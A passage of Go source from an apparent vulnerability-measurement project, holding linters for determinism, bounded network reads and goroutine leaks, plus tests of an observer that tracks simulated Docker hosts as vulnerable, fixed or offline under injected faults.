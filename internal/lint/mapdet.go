package lint

import (
	"go/ast"
	"go/types"
	"strconv"
)

// AnalyzerMapDet flags map iterations whose iterates reach an
// order-sensitive sink — report rows appended to a slice, bytes written to
// a stream or journal — without an intervening sort. Go randomizes map
// iteration order per run, so any such path silently breaks the
// byte-identical-report invariant the same-seed acceptance tests pin.
//
// Recognized-clean shapes: appending to a slice that the same function
// later passes to sort.* / slices.Sort*, and per-key writes indexed by the
// loop variable (m2[k] = ..., grouped[k] = append(grouped[k], v)), which
// are order-insensitive.
var AnalyzerMapDet = &Analyzer{
	Name:  "mapdet",
	Doc:   "map iteration feeding an order-sensitive sink must be sorted first",
	Paper: "same-seed runs must emit byte-identical reports and journals (reproducibility invariant, §3)",
	Run:   runMapDet,
}

func runMapDet(pkg *Package) []Finding {
	var out []Finding
	for _, file := range pkg.Files {
		sorted := sortTargets(pkg, file)
		walkStack(file, func(n ast.Node, stack []ast.Node) {
			rng, ok := n.(*ast.RangeStmt)
			if !ok {
				return
			}
			tv, tok := pkg.Info.Types[rng.X]
			if !tok || !isMapType(tv.Type) {
				return
			}
			out = append(out, mapRangeSinks(pkg, rng, sorted[enclosingFunc(stack)])...)
		})
	}
	return dedupFindings(out)
}

// dedupFindings drops findings repeated at the same position — a sink
// inside two nested map ranges is one defect, not two.
func dedupFindings(in []Finding) []Finding {
	seen := map[string]bool{}
	var out []Finding
	for _, f := range in {
		k := f.Pos.Filename + ":" + strconv.Itoa(f.Pos.Line) + ":" + strconv.Itoa(f.Pos.Column)
		if seen[k] {
			continue
		}
		seen[k] = true
		out = append(out, f)
	}
	return out
}

// sortTargets collects, per enclosing function, the lvalue paths the
// function passes to a sorting call — these appends are deterministic no
// matter what order they were made in.
func sortTargets(pkg *Package, file *ast.File) map[ast.Node]map[string]bool {
	out := map[ast.Node]map[string]bool{}
	walkStack(file, func(n ast.Node, stack []ast.Node) {
		call, ok := n.(*ast.CallExpr)
		if !ok || len(call.Args) == 0 {
			return
		}
		obj := usedObject(pkg.Info, call.Fun)
		if obj == nil || !packageLevel(obj) {
			return
		}
		isSort := objectFromPkg(obj, "sort",
			"Slice", "SliceStable", "Sort", "Stable", "Strings", "Ints", "Float64s") ||
			objectFromPkg(obj, "slices", "Sort", "SortFunc", "SortStableFunc")
		if !isSort {
			return
		}
		key, ok := lvalPath(pkg, call.Args[0])
		if !ok {
			return
		}
		fn := enclosingFunc(stack)
		if out[fn] == nil {
			out[fn] = map[string]bool{}
		}
		out[fn][key] = true
	})
	return out
}

// enclosingFunc returns the innermost function node on the stack (FuncDecl
// or FuncLit), or nil at file scope.
func enclosingFunc(stack []ast.Node) ast.Node {
	for i := len(stack) - 1; i >= 0; i-- {
		switch stack[i].(type) {
		case *ast.FuncDecl, *ast.FuncLit:
			return stack[i]
		}
	}
	return nil
}

// mapRangeSinks scans one map-range body for order-sensitive sinks.
func mapRangeSinks(pkg *Package, rng *ast.RangeStmt, sorted map[string]bool) []Finding {
	loopVars := rangeVarObjs(pkg, rng)
	var out []Finding
	report := func(n ast.Node, msg string) {
		out = append(out, Finding{Pos: pkg.position(n), Rule: "mapdet", Msg: msg})
	}
	ast.Inspect(rng.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			checkAppendSink(pkg, rng, n, loopVars, sorted, report)
		case *ast.CallExpr:
			checkWriteSink(pkg, n, report)
		}
		return true
	})
	return out
}

// rangeVarObjs resolves the key and value variables of a range statement.
func rangeVarObjs(pkg *Package, rng *ast.RangeStmt) map[types.Object]bool {
	out := map[types.Object]bool{}
	for _, e := range []ast.Expr{rng.Key, rng.Value} {
		if id, ok := e.(*ast.Ident); ok {
			if obj := identObj(pkg, id); obj != nil {
				out[obj] = true
			}
		}
	}
	return out
}

// checkAppendSink flags `x = append(x, ...)` inside a map range unless the
// target is indexed by the loop variable (per-key bucketing), declared
// inside the loop body itself (its contents are rebuilt per iteration, so
// map order cannot reach them), or sorted afterwards by the enclosing
// function.
func checkAppendSink(pkg *Package, rng *ast.RangeStmt, a *ast.AssignStmt, loopVars map[types.Object]bool, sorted map[string]bool, report func(ast.Node, string)) {
	if len(a.Lhs) != 1 || len(a.Rhs) != 1 {
		return
	}
	call, ok := a.Rhs[0].(*ast.CallExpr)
	if !ok || !isBuiltinAppend(pkg, call) {
		return
	}
	if idx, ok := a.Lhs[0].(*ast.IndexExpr); ok {
		if id, iok := idx.Index.(*ast.Ident); iok && loopVars[identObj(pkg, id)] {
			return // grouped under the iteration key itself: order-free
		}
		report(a, "append into a keyed bucket during map iteration; bucket contents grow in random map order — iterate sorted keys")
		return
	}
	if baseDeclaredIn(pkg, a.Lhs[0], rng) {
		return // loop-local accumulator: fully rebuilt each iteration
	}
	key, ok := lvalPath(pkg, a.Lhs[0])
	if ok && sorted[key] {
		return
	}
	report(a, "rows appended in map-iteration order; sort the keys first, or sort the slice before it is emitted")
}

// baseDeclaredIn reports whether the base identifier of lhs resolves to an
// object declared inside node's source range.
func baseDeclaredIn(pkg *Package, lhs ast.Expr, node ast.Node) bool {
	for {
		switch e := lhs.(type) {
		case *ast.ParenExpr:
			lhs = e.X
			continue
		case *ast.SelectorExpr:
			lhs = e.X
			continue
		case *ast.IndexExpr:
			lhs = e.X
			continue
		case *ast.Ident:
			obj := identObj(pkg, e)
			return obj != nil && obj.Pos() >= node.Pos() && obj.Pos() <= node.End()
		default:
			return false
		}
	}
}

// checkWriteSink flags calls that emit bytes to a stream, journal, or
// encoder from inside a map range: the output order is the map order.
func checkWriteSink(pkg *Package, call *ast.CallExpr, report func(ast.Node, string)) {
	obj := usedObject(pkg.Info, call.Fun)
	if obj != nil && packageLevel(obj) && objectFromPkg(obj, "fmt", "Fprint", "Fprintf", "Fprintln") {
		report(call, "stream written during map iteration; output order is randomized — iterate sorted keys")
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || obj == nil || packageLevel(obj) {
		return
	}
	switch sel.Sel.Name {
	case "Write", "WriteString", "WriteByte", "WriteRune", "Encode", "Append":
		report(call, sel.Sel.Name+" called during map iteration; emission order is randomized — iterate sorted keys")
	}
}

// isBuiltinAppend reports whether call invokes the append builtin.
func isBuiltinAppend(pkg *Package, call *ast.CallExpr) bool {
	id, ok := call.Fun.(*ast.Ident)
	if !ok || id.Name != "append" {
		return false
	}
	_, ok = pkg.Info.Uses[id].(*types.Builtin)
	return ok
}
