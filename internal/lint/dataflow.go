package lint

// dataflow.go is the shared facts layer under the resource-safety
// analyzers (boundedread, mapdet, ctxloop). It provides a per-function,
// flow-sensitive value classification over a three-point lattice —
// unknown, network reader, bounded — plus the AST walking and type
// helpers the analyzers query.
//
// Soundness trade-offs, deliberately accepted to stay within go/ast +
// go/types:
//
//   - Intra-function only. No call summaries: a helper that wraps its
//     argument in io.LimitReader is opaque, so its callers classify the
//     result as unknown (a false negative, never a false positive).
//   - One level of field sensitivity. Lattice keys are (object) for plain
//     identifiers and (object, field) for single selectors, which is
//     exactly enough for `resp.Body = http.MaxBytesReader(w, resp.Body, n)`
//     to re-classify the field as bounded.
//   - No aliasing through interfaces. A net.Conn stored into an io.Reader
//     variable loses its network-reader classification; conversely a
//     value is never classified by what an interface *might* hold.
//   - Statement order approximates control flow. Assignments are applied
//     in source order during the walk, so a bound installed after the
//     consuming read does not retroactively launder it.

import (
	"go/ast"
	"go/token"
	"go/types"
	"strconv"
)

// flowVal is one point of the value lattice.
type flowVal int

const (
	// valUnknown is the bottom: nothing is known about the value.
	valUnknown flowVal = iota
	// valNetReader marks a reader whose length the remote peer controls.
	valNetReader
	// valDecompressed marks the output of a decompressor fed from a
	// network reader: the peer controls not just the length but the
	// *expansion* (a 64KiB gzip bomb inflates to 64MiB), so it is as
	// dangerous as the raw stream and must be re-bounded before use.
	valDecompressed
	// valBounded marks a reader with an explicit size ceiling or one
	// backed by an already-materialized in-memory buffer.
	valBounded
)

// netLike reports whether v carries peer-controlled bytes that no bound
// has been applied to yet.
func netLike(v flowVal) bool { return v == valNetReader || v == valDecompressed }

// flowKey addresses one tracked value: a variable, or one of its fields.
type flowKey struct {
	obj   types.Object
	field string // "" for the object itself
}

// funcFlow is the lattice state of one function body mid-walk.
type funcFlow struct {
	pkg  *Package
	vals map[flowKey]flowVal
}

func newFuncFlow(pkg *Package) *funcFlow {
	return &funcFlow{pkg: pkg, vals: map[flowKey]flowVal{}}
}

// walk traverses body in source order, applying assignment transfer
// functions as they are reached, and calls visit for every node with the
// ancestor stack current at that point (outermost first).
func (fl *funcFlow) walk(body *ast.BlockStmt, visit func(n ast.Node, stack []ast.Node)) {
	walkStack(body, func(n ast.Node, stack []ast.Node) {
		if a, ok := n.(*ast.AssignStmt); ok {
			fl.assign(a)
		}
		visit(n, stack)
	})
}

// assign is the transfer function: each 1:1 assignment re-classifies its
// left-hand side. Multi-value unpackings (conn, err := dial(...)) are
// skipped — connection-typed results still classify by their static type —
// with one exception: the two-valued decompressor constructors
// (gzip.NewReader, zlib.NewReader), whose reader result would otherwise
// launder its peer-controlled input into valUnknown.
func (fl *funcFlow) assign(a *ast.AssignStmt) {
	if len(a.Lhs) != len(a.Rhs) {
		if len(a.Rhs) == 1 && len(a.Lhs) == 2 {
			if call, ok := a.Rhs[0].(*ast.CallExpr); ok {
				if v := fl.classifyCall(call); v != valUnknown {
					if key, ok := fl.lvalKeyOf(a.Lhs[0]); ok {
						fl.vals[key] = v
					}
				}
			}
		}
		return
	}
	for i, lhs := range a.Lhs {
		key, ok := fl.lvalKeyOf(lhs)
		if !ok {
			continue
		}
		fl.vals[key] = fl.classify(a.Rhs[i])
	}
}

// lvalKeyOf maps an assignable expression to its lattice key.
func (fl *funcFlow) lvalKeyOf(e ast.Expr) (flowKey, bool) {
	switch e := e.(type) {
	case *ast.Ident:
		if obj := identObj(fl.pkg, e); obj != nil {
			return flowKey{obj: obj}, true
		}
	case *ast.SelectorExpr:
		if base, ok := e.X.(*ast.Ident); ok {
			if obj := identObj(fl.pkg, base); obj != nil {
				return flowKey{obj: obj, field: e.Sel.Name}, true
			}
		}
	}
	return flowKey{}, false
}

// classify resolves an expression to its lattice value at the current
// point of the walk.
func (fl *funcFlow) classify(e ast.Expr) flowVal {
	switch e := e.(type) {
	case nil:
		return valUnknown
	case *ast.ParenExpr:
		return fl.classify(e.X)
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			return fl.classify(e.X)
		}
	case *ast.TypeAssertExpr:
		if e.Type != nil {
			return fl.classify(e.X)
		}
	case *ast.Ident:
		if obj := identObj(fl.pkg, e); obj != nil {
			if v, ok := fl.vals[flowKey{obj: obj}]; ok {
				return v
			}
			return classifyType(obj.Type())
		}
	case *ast.SelectorExpr:
		if base, ok := e.X.(*ast.Ident); ok {
			if obj := identObj(fl.pkg, base); obj != nil {
				if v, ok := fl.vals[flowKey{obj: obj, field: e.Sel.Name}]; ok {
					return v
				}
			}
		}
		if fl.isHTTPBody(e) {
			return valNetReader
		}
	case *ast.CallExpr:
		return fl.classifyCall(e)
	}
	if tv, ok := fl.pkg.Info.Types[e]; ok {
		return classifyType(tv.Type)
	}
	return valUnknown
}

// isHTTPBody reports whether sel reads the Body field of an http.Request
// or http.Response — the canonical peer-controlled reader.
func (fl *funcFlow) isHTTPBody(sel *ast.SelectorExpr) bool {
	if sel.Sel.Name != "Body" {
		return false
	}
	s, ok := fl.pkg.Info.Selections[sel]
	if !ok || s.Kind() != types.FieldVal {
		return false
	}
	obj := s.Obj()
	return obj.Pkg() != nil && obj.Pkg().Path() == "net/http"
}

// flowSourcePkgs are the simulation-boundary packages: any io.Reader or
// connection handed out by them carries peer-controlled bytes.
var flowSourcePkgs = []string{
	"mavscan/internal/simnet",
	"mavscan/internal/httpsim",
}

// classifyCall classifies the result of a call: explicit bounders, wrappers
// that preserve their argument's classification, and simulation-boundary
// sources.
func (fl *funcFlow) classifyCall(call *ast.CallExpr) flowVal {
	obj := usedObject(fl.pkg.Info, call.Fun)
	if obj != nil && packageLevel(obj) {
		switch {
		case objectFromPkg(obj, "io", "LimitReader"),
			objectFromPkg(obj, "net/http", "MaxBytesReader"),
			objectFromPkg(obj, "bytes", "NewReader", "NewBuffer", "NewBufferString"),
			objectFromPkg(obj, "strings", "NewReader"):
			return valBounded
		case objectFromPkg(obj, "io", "NopCloser"),
			objectFromPkg(obj, "bufio", "NewReader", "NewReaderSize"):
			if len(call.Args) > 0 {
				return fl.classify(call.Args[0])
			}
		case objectFromPkg(obj, "crypto/tls", "Client", "Server"):
			return valNetReader
		case objectFromPkg(obj, "compress/gzip", "NewReader"),
			objectFromPkg(obj, "compress/zlib", "NewReader", "NewReaderDict"),
			objectFromPkg(obj, "compress/flate", "NewReader", "NewReaderDict"):
			// A decompressor does not bound its input — it amplifies it.
			// Output over peer-controlled bytes stays peer-controlled.
			if len(call.Args) > 0 && netLike(fl.classify(call.Args[0])) {
				return valDecompressed
			}
		}
	}
	if obj != nil && obj.Pkg() != nil && pathUnderAny(obj.Pkg().Path(), flowSourcePkgs) {
		if tv, ok := fl.pkg.Info.Types[ast.Expr(call)]; ok && isNetReaderType(tv.Type) {
			return valNetReader
		}
	}
	return valUnknown
}

// classifyType classifies a value by its static type alone.
func classifyType(t types.Type) flowVal {
	switch {
	case t == nil:
		return valUnknown
	case isNetReaderType(t):
		return valNetReader
	case isBoundedType(t):
		return valBounded
	}
	return valUnknown
}

// isNetReaderType reports whether t is a network connection. The duck test
// (Read + RemoteAddr) matches net.Conn, *tls.Conn and every simnet conn
// without needing a handle on package net's type object.
func isNetReaderType(t types.Type) bool {
	return t != nil && hasMethod(t, "Read") && hasMethod(t, "RemoteAddr")
}

// isBoundedType reports whether t reads from an already-materialized,
// fixed-size buffer or carries an explicit limit.
func isBoundedType(t types.Type) bool {
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok || n.Obj().Pkg() == nil {
		return false
	}
	switch n.Obj().Pkg().Path() + "." + n.Obj().Name() {
	case "bytes.Reader", "bytes.Buffer", "strings.Reader",
		"io.LimitedReader", "io.SectionReader":
		return true
	}
	return false
}

// hasMethod reports whether t's (addressable) method set exports name.
func hasMethod(t types.Type, name string) bool {
	obj, _, _ := types.LookupFieldOrMethod(t, true, nil, name)
	_, ok := obj.(*types.Func)
	return ok
}

// --- shared AST helpers ---

// walkStack traverses root in source order, calling visit for every node
// with its ancestor stack (outermost first; root itself gets an empty
// stack).
func walkStack(root ast.Node, visit func(n ast.Node, stack []ast.Node)) {
	var stack []ast.Node
	ast.Inspect(root, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		visit(n, stack)
		stack = append(stack, n)
		return true
	})
}

// coneInspect visits the nodes of root that execute on every pass through
// it, skipping nested function literals (whose bodies run later, if ever).
func coneInspect(root ast.Node, visit func(n ast.Node)) {
	ast.Inspect(root, func(n ast.Node) bool {
		if n == nil {
			return true
		}
		if _, ok := n.(*ast.FuncLit); ok && n != root {
			return false
		}
		visit(n)
		return true
	})
}

// identObj resolves an identifier to its object via Uses or Defs.
func identObj(pkg *Package, id *ast.Ident) types.Object {
	if o := pkg.Info.Uses[id]; o != nil {
		return o
	}
	return pkg.Info.Defs[id]
}

// isMapType reports whether t ranges as a map.
func isMapType(t types.Type) bool {
	if t == nil {
		return false
	}
	_, ok := t.Underlying().(*types.Map)
	return ok
}

// isContextType reports whether t is context.Context.
func isContextType(t types.Type) bool {
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := n.Obj()
	return obj.Pkg() != nil && obj.Pkg().Path() == "context" && obj.Name() == "Context"
}

// lvalPath renders an identifier or selector chain as a stable key
// ("<base-object>.Field.Sub"), resolving the base identifier to its object
// so shadowed names do not collide. ok is false for any other shape.
func lvalPath(pkg *Package, e ast.Expr) (string, bool) {
	switch e := e.(type) {
	case *ast.ParenExpr:
		return lvalPath(pkg, e.X)
	case *ast.Ident:
		obj := identObj(pkg, e)
		if obj == nil {
			return "", false
		}
		return objKey(obj), true
	case *ast.SelectorExpr:
		base, ok := lvalPath(pkg, e.X)
		if !ok {
			return "", false
		}
		return base + "." + e.Sel.Name, true
	}
	return "", false
}

// objKey is a process-stable identity string for a types.Object: the
// declaration position uniquely identifies it within one FileSet.
func objKey(obj types.Object) string {
	return obj.Name() + "#" + strconv.Itoa(int(obj.Pos()))
}
