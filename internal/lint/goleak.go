package lint

import (
	"go/ast"
	"go/types"
)

// AnalyzerGoLeak flags `go func(){...}()` literals whose body shows no
// evidence of a lifecycle tie: no sync.WaitGroup bookkeeping, no channel
// operation that a collector can drain, and no context cancellation
// check. Such goroutines outlive the scan that spawned them, which breaks
// both determinism (work races the simulated clock) and the race
// detector's ability to bound a test run.
var AnalyzerGoLeak = &Analyzer{
	Name:  "goleak",
	Doc:   "goroutine literals must be tied to a WaitGroup, channel, or context cancellation",
	Paper: "bounded concurrency keeps the replayed experiments deterministic",
	Run:   runGoLeak,
}

func runGoLeak(pkg *Package) []Finding {
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			stmt, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			lit, ok := stmt.Call.Fun.(*ast.FuncLit)
			if !ok {
				// `go name(...)` delegates lifecycle to the named
				// function; the rule targets inline literals.
				return true
			}
			if !goroutineTied(pkg, lit) {
				out = append(out, Finding{
					Pos:  pkg.position(stmt),
					Rule: "goleak",
					Msg:  "goroutine literal has no WaitGroup, channel, or context tie; it can leak past the scan",
				})
			}
			return true
		})
	}
	return out
}

// goroutineTied reports whether the goroutine body contains at least one
// recognised lifecycle anchor.
func goroutineTied(pkg *Package, lit *ast.FuncLit) bool {
	tied := false
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		if tied {
			return false
		}
		switch e := n.(type) {
		case *ast.SendStmt:
			// Sending on a channel: a collector on the other side
			// observes completion.
			tied = true
		case *ast.UnaryExpr:
			if e.Op.String() == "<-" {
				tied = true
			}
		case *ast.SelectStmt:
			tied = true
		case *ast.RangeStmt:
			if tv, ok := pkg.Info.Types[e.X]; ok {
				if _, isChan := tv.Type.Underlying().(*types.Chan); isChan {
					tied = true
				}
			}
		case *ast.CallExpr:
			if ident, ok := e.Fun.(*ast.Ident); ok && ident.Name == "close" {
				if obj := pkg.Info.Uses[ident]; obj != nil && obj.Pkg() == nil {
					tied = true // builtin close(ch)
				}
			}
			if sel, ok := e.Fun.(*ast.SelectorExpr); ok {
				obj := pkg.Info.Uses[sel.Sel]
				if isWaitGroupMethod(obj) || isContextMethod(obj) {
					tied = true
				}
			}
		}
		return !tied
	})
	return tied
}

// isWaitGroupMethod reports whether obj is sync.WaitGroup.Done/Add/Wait.
func isWaitGroupMethod(obj types.Object) bool {
	fn, ok := obj.(*types.Func)
	if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "sync" {
		return false
	}
	switch fn.Name() {
	case "Done", "Add", "Wait":
	default:
		return false
	}
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	ptr, ok := sig.Recv().Type().(*types.Pointer)
	if !ok {
		return false
	}
	named, ok := types.Unalias(ptr.Elem()).(*types.Named)
	return ok && named.Obj().Name() == "WaitGroup"
}

// isContextMethod reports whether obj is a method of context.Context
// (Done, Err, Deadline, Value) — checking any of them inside the body
// counts as a cancellation tie.
func isContextMethod(obj types.Object) bool {
	fn, ok := obj.(*types.Func)
	return ok && fn.Pkg() != nil && fn.Pkg().Path() == "context"
}
