package observer

import (
	"net/netip"
	"reflect"
	"testing"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/faults"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

// deployVersioned binds a Docker instance at a specific version on an
// arbitrary port of host h and returns its observer target.
func deployVersioned(t *testing.T, h *simnet.Host, port int, version string) Target {
	t.Helper()
	inst, err := apps.New(apps.Config{App: mav.Docker, Version: version})
	if err != nil {
		t.Fatal(err)
	}
	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
	return Target{
		IP: h.IP(), Port: port, Scheme: "http", App: mav.Docker,
		InitialVersion: version,
	}
}

// TestSharedIPDistinctPorts is the regression test for the version-tracking
// key: two targets on one IP (different ports) must keep independent
// version state. Keyed by bare IP, the two entries collide: the colliding
// initial versions register a phantom update on the first fingerprint, and
// the real upgrade later is swallowed by the already-set updated flag.
func TestSharedIPDistinctPorts(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	h := simnet.NewHost(netip.MustParseAddr("10.0.0.5"))
	tA := deployVersioned(t, h, 2375, "19.03.0")
	tB := deployVersioned(t, h, 2376, "20.10.0")
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}

	// Upgrade only the port-2376 deployment mid-window.
	sim.At(start.Add(4*time.Hour), func(time.Time) {
		inst, err := apps.New(apps.Config{App: mav.Docker, Version: "20.10.6"})
		if err != nil {
			t.Error(err)
			return
		}
		h.Bind(2376, httpsim.ConnHandler(inst.Handler()))
	})

	obs := New(n, sim)
	obs.FingerprintEvery = 1
	res := obs.Watch([]Target{tA, tB}, 3*time.Hour, 9*time.Hour)
	sim.Run()

	if res.Updated != 1 {
		t.Fatalf("Updated = %d, want exactly 1 (only the port-2376 target upgraded)", res.Updated)
	}
	if got := res.FinalSample(); got.Vulnerable != 2 {
		t.Fatalf("final sample %+v, want both targets still vulnerable", got)
	}
}

// TestWatchTicksLandOnWindowEnd pins the schedule: duration/interval ticks,
// the first one interval after the start and the last one exactly on
// start+duration (no fudge, no missing endpoint tick).
func TestWatchTicksLandOnWindowEnd(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	_, _, target := deployTarget(t, n, "10.0.0.6")
	obs := New(n, sim)
	res := obs.Watch([]Target{target}, 3*time.Hour, 12*time.Hour)
	sim.Run()
	if len(res.Overall) != 4 {
		t.Fatalf("%d ticks, want duration/interval = 4", len(res.Overall))
	}
	if got, want := res.Overall[0].T, start.Add(3*time.Hour); !got.Equal(want) {
		t.Errorf("first tick at %v, want %v", got, want)
	}
	if got, want := res.FinalSample().T, start.Add(12*time.Hour); !got.Equal(want) {
		t.Errorf("last tick at %v, want the window end %v", got, want)
	}
}

// flapWatch runs one target through a window where the host is offline
// only around the 2h tick, with the given offline-confirmation threshold.
func flapWatch(t *testing.T, offlineAfter int) *Result {
	t.Helper()
	n := simnet.New()
	sim := simtime.NewSim(start)
	_, host, target := deployTarget(t, n, "10.0.0.7")
	sim.At(start.Add(90*time.Minute), func(time.Time) { host.SetOnline(false) })
	sim.At(start.Add(150*time.Minute), func(time.Time) { host.SetOnline(true) })
	obs := New(n, sim)
	obs.OfflineAfter = offlineAfter
	res := obs.Watch([]Target{target}, time.Hour, 4*time.Hour)
	sim.Run()
	return res
}

func TestOfflineRequiresConsecutiveMisses(t *testing.T) {
	// Default single-miss rule: the one missed tick shows up as offline.
	res := flapWatch(t, 1)
	if res.Overall[1].Offline != 1 {
		t.Fatalf("OfflineAfter=1: flap tick %+v, want it reported offline", res.Overall[1])
	}

	// With a two-miss threshold the isolated blip is absorbed: the target
	// keeps its last reachable classification throughout.
	res = flapWatch(t, 2)
	for i, s := range res.Overall {
		if s.Vulnerable != 1 || s.Offline != 0 {
			t.Fatalf("OfflineAfter=2: tick %d = %+v, want the blip absorbed", i, s)
		}
	}
}

func TestPersistentOfflineConfirmedAfterK(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	_, host, target := deployTarget(t, n, "10.0.0.8")
	sim.At(start.Add(90*time.Minute), func(time.Time) { host.SetOnline(false) })
	obs := New(n, sim)
	obs.OfflineAfter = 2
	res := obs.Watch([]Target{target}, time.Hour, 4*time.Hour)
	sim.Run()
	wantOffline := []int{0, 0, 1, 1} // miss at 2h is grace, confirmed at 3h
	for i, s := range res.Overall {
		if s.Offline != wantOffline[i] {
			t.Fatalf("tick %d = %+v, want Offline=%d (grace then confirm)", i, s, wantOffline[i])
		}
	}
}

// faultedWatch runs three vulnerable targets through a 30-hour window
// (10 ticks) with the given fault plan and resilience policy.
func faultedWatch(t *testing.T, cfg faults.Config, policy resilience.Policy, offlineAfter int) *Result {
	t.Helper()
	n := simnet.New()
	sim := simtime.NewSim(start)
	targets := make([]Target, 0, 3)
	for _, ip := range []string{"10.0.1.1", "10.0.1.2", "10.0.1.3"} {
		_, _, tgt := deployTarget(t, n, ip)
		targets = append(targets, tgt)
	}
	if cfg.Enabled() {
		if err := cfg.Validate(); err != nil {
			t.Fatal(err)
		}
		n.SetFaults(faults.NewPlan(cfg, sim))
		// Injected latency must burn simulated attention, not wall time.
		n.SetClock(simtime.Immediate(sim))
	}
	obs := New(n, sim)
	obs.Resilience = policy
	obs.OfflineAfter = offlineAfter
	res := obs.Watch(targets, 3*time.Hour, 30*time.Hour)
	sim.Run()
	return res
}

// TestFaultsBelowBudgetPreserveSeries is the headline resilience property:
// with transient faults injected at a rate the retry policy can absorb, the
// Figure-2 Overall series is byte-identical to a fault-free run — and the
// faulted run itself is reproducible from its seed.
func TestFaultsBelowBudgetPreserveSeries(t *testing.T) {
	policy := resilience.Policy{MaxAttempts: 4, JitterSeed: 1}
	clean := faultedWatch(t, faults.Config{}, policy, 2)

	cfg := faults.Config{Seed: 42, Rate: 0.2}
	faulted := faultedWatch(t, cfg, policy, 2)
	if !reflect.DeepEqual(faulted.Overall, clean.Overall) {
		t.Fatalf("faults below the retry budget changed the series:\nfaulted: %+v\nclean:   %+v",
			faulted.Overall, clean.Overall)
	}

	again := faultedWatch(t, cfg, policy, 2)
	if !reflect.DeepEqual(again.Overall, faulted.Overall) {
		t.Fatalf("same fault seed produced a different series:\nfirst:  %+v\nsecond: %+v",
			faulted.Overall, again.Overall)
	}
}

// TestFaultsAboveBudgetFlipOffline is the counterpart: faults the budget
// cannot absorb (every probe attempt drops) flip targets offline — but only
// after OfflineAfter consecutive missed ticks.
func TestFaultsAboveBudgetFlipOffline(t *testing.T) {
	cfg := faults.Config{Seed: 42, Rate: 1, Kinds: []faults.Kind{faults.SynTimeout}}
	res := faultedWatch(t, cfg, resilience.Policy{MaxAttempts: 4, JitterSeed: 1}, 2)
	if first := res.Overall[0]; first.Vulnerable != 3 || first.Offline != 0 {
		t.Fatalf("first missed tick %+v, want grace to hold the last-good state", first)
	}
	if second := res.Overall[1]; second.Offline != 3 {
		t.Fatalf("second missed tick %+v, want all targets confirmed offline", second)
	}
	if final := res.FinalSample(); final.Offline != 3 {
		t.Fatalf("final sample %+v, want all targets offline", final)
	}
}
