package observer

import (
	"testing"
	"time"

	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// TestTelemetryTracksStateTransitions walks one host through the full
// Figure-2 lifecycle — vulnerable, then fixed, then offline — over
// simulated ticks and checks that the exported counters reproduce the
// classification: per-state check totals sum to ticks x targets, and each
// lifecycle edge is counted exactly once.
func TestTelemetryTracksStateTransitions(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	inst, host, target := deployTarget(t, n, "10.0.0.7")

	// Tick cadence 3h over 18h = 6 ticks. The host is vulnerable at ticks
	// 1-2, fixed at ticks 3-4 and offline at ticks 5-6.
	sim.At(start.Add(7*time.Hour), func(time.Time) { inst.SetAuthRequired(true) })
	sim.At(start.Add(13*time.Hour), func(time.Time) { host.SetOnline(false) })

	reg := telemetry.New(sim)
	obs := New(n, sim)
	obs.Workers = 1
	obs.Instrument(reg)
	res := obs.Watch([]Target{target}, 3*time.Hour, 18*time.Hour)
	sim.Run()

	if got := reg.CounterValue("mavscan_observer_ticks_total"); got != 6 {
		t.Fatalf("ticks_total = %d, want 6", got)
	}

	// Per-state check counts mirror the Figure-2 samples tick by tick.
	wantChecks := map[string]uint64{"vulnerable": 2, "fixed": 2, "offline": 2}
	var sampleSums Sample
	for _, s := range res.Overall {
		sampleSums.Vulnerable += s.Vulnerable
		sampleSums.Fixed += s.Fixed
		sampleSums.Offline += s.Offline
	}
	gotChecks := map[string]uint64{
		"vulnerable": reg.CounterValue(telemetry.Labeled("mavscan_observer_checks_total", "state", "vulnerable")),
		"fixed":      reg.CounterValue(telemetry.Labeled("mavscan_observer_checks_total", "state", "fixed")),
		"offline":    reg.CounterValue(telemetry.Labeled("mavscan_observer_checks_total", "state", "offline")),
	}
	for state, want := range wantChecks {
		if gotChecks[state] != want {
			t.Errorf("checks_total{state=%q} = %d, want %d", state, gotChecks[state], want)
		}
	}
	if gotChecks["vulnerable"] != uint64(sampleSums.Vulnerable) ||
		gotChecks["fixed"] != uint64(sampleSums.Fixed) ||
		gotChecks["offline"] != uint64(sampleSums.Offline) {
		t.Errorf("counters diverge from Figure-2 samples: counters %v, samples %+v", gotChecks, sampleSums)
	}
	if total := reg.CounterFamilyTotal("mavscan_observer_checks_total"); total != 6*1 {
		t.Errorf("total checks = %d, want ticks x targets = 6", total)
	}

	// Exactly one vulnerable->fixed and one fixed->offline edge; nothing
	// else.
	edge := func(from, to string) uint64 {
		return reg.CounterValue(telemetry.Labeled("mavscan_observer_transitions_total", "from", from, "to", to))
	}
	if got := edge("vulnerable", "fixed"); got != 1 {
		t.Errorf("vulnerable->fixed = %d, want 1", got)
	}
	if got := edge("fixed", "offline"); got != 1 {
		t.Errorf("fixed->offline = %d, want 1", got)
	}
	if total := reg.CounterFamilyTotal("mavscan_observer_transitions_total"); total != 2 {
		t.Errorf("total transitions = %d, want 2", total)
	}

	// The current-state gauges hold the final tick's sample.
	final := res.FinalSample()
	for state, want := range map[string]int{
		"vulnerable": final.Vulnerable, "fixed": final.Fixed, "offline": final.Offline,
	} {
